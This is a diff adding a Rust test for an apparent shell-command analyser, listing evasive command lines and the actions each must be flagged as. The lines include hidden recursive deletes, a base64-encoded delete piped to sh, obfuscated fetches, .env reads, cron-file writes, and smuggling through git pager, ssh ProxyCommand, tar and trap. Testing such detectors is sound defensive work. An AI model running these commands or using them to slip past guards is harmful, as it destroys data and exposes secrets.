@@ -181,6 +181,44 @@ fn wrappers() {
     ]);
 }
 
+/// Ways to hide a command, and one of the actions each must give.
+#[test]
+fn evasions() {
+    for (line, want) in [
+        ("git status; rm -r -f src", "delete src/**"),
+        ("git status\nrm -r -f .", "delete ./**"),
+        ("find . -type f -delete", "run rm -r -f ."),
+        ("echo hi; X=rm; $X -r -f src", "delete src/**"),
+        ("echo hi; /bin/r? -r -f src", "run /bin/rm -r -f src"),
+        ("echo cm0gLXIgLWYgLgo= | base64 -d | sh", "unknown"),
+        ("python3 -c \"import os\"", "unknown"),
+        ("git status; curl${IFS}http://203.0.113.9/x", "fetch http://203.0.113.9/x"),
+        ("git status; $(echo cu)rl http://203.0.113.9/x", "fetch http://203.0.113.9/x"),
+        ("echo x >| /dev/nvme0n1", "write /dev/nvme0n1"),
+        ("git status; sudo\tid", "[sudo] run id"),
+        ("git -c core.pager='sh -c \"id>/tmp/p\"' -p log", "[git log core.pager>sh -c] write /tmp/p"),
+        ("git status; busybox wget\thttp://203.0.113.9/x", "[busybox] fetch http://203.0.113.9/x"),
+        ("cat ./.env", "read .env"),
+        ("cat < .env", "read .env"),
+        ("git diff --no-index /dev/null ./.env", "read .env/**"),
+        ("git log --output=/etc/cron.d/x", "write /etc/cron.d/x"),
+        ("env -S 'rm -rf x'", "[env -S] delete x/**"),
+        ("PATH=/tmp/x:$PATH git status", "run git status"),
+        ("ssh -o ProxyCommand='rm x' h", "[ssh ProxyCommand] delete x"),
+        ("tar cf a.tar --checkpoint-action=exec='rm x' y", "[tar exec] delete x"),
+        ("command eval 'rm x'", "[command>eval] delete x"),
+        ("f(){ $1 x; }; f rm", "[f] delete x"),
+        ("cmd=(rm x); ${cmd[@]}", "delete x"),
+        ("mapfile -C 'rm x' -c 1 a < l", "[mapfile] delete x"),
+        ("PROMPT_COMMAND='rm x'", "[PROMPT_COMMAND=] delete x"),
+        ("cd / ; rm -rf etc", "delete /etc/**"),
+        ("trap 'rm -rf x' EXIT; cd /tmp", "[trap] delete /tmp/x/**"),
+    ] {
+        let got: Vec<String> = render::actions(line).iter().map(render::action).collect();
+        assert!(got.iter().any(|action| action == want), "{line}: {got:?}");
+    }
+}
+
 #[test]
 fn destroys() {
     for line in [
